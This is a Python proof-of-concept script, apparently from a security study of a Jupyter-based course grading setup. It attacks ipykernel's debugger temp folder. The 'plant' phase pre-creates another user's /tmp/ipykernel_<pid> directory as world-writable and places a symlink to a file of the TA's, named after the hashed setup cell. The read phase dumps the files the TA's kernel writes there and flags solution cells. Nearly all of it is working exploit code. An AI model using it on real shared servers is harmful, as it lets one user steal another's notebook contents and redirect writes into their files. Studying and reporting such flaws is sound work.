"""Student side of a06 (uid 1001): the TA's kernel pid is in `ps`; ipykernel's debugger keeps cell files in
/tmp/ipykernel_<pid>/ and only makes that folder (0700) when it is missing. She makes it first (0777, hers), and puts
in it a link named for the setup cell's file (murmur2 of the release's setup cell, a fixed seed) to a file of the
TA's. Then she reads what the TA's kernel writes there."""
import os, sys, time, json
sys.path.insert(0, "CLONE/.venv/lib/python3.11/site-packages")
from ipykernel.compiler import murmur2_x86, get_tmp_hash_seed
import nbformat
pid, victim, phase = sys.argv[1], sys.argv[2], sys.argv[3]
d = f"/tmp/ipykernel_{pid}"
rel = nbformat.read("CLONE/release/ps1_memory/ps1_memory.ipynb", 4)
setup = next(c.source for c in rel.cells if c.cell_type == "code")
name = f"{d}/{murmur2_x86(setup, get_tmp_hash_seed())}.py"
if phase == "plant":
    os.mkdir(d); os.chmod(d, 0o777)
    os.symlink(victim, name)
    print("planted", d, "and", name, "->", victim, flush=True)
else:
    for f in sorted(os.listdir(d)):
        p = os.path.join(d, f)
        st = os.lstat(p)
        if os.path.islink(p):
            print("  link", f, "->", os.readlink(p)); continue
        try:
            txt = open(p).read()
            print("  read", f, "owner", st.st_uid, "mode", oct(st.st_mode & 0o777), "BEGIN SOLUTION" in txt and "solution cell!" or "", repr(txt[:200]))
        except OSError as e:
            print("  cannot read", f, e)
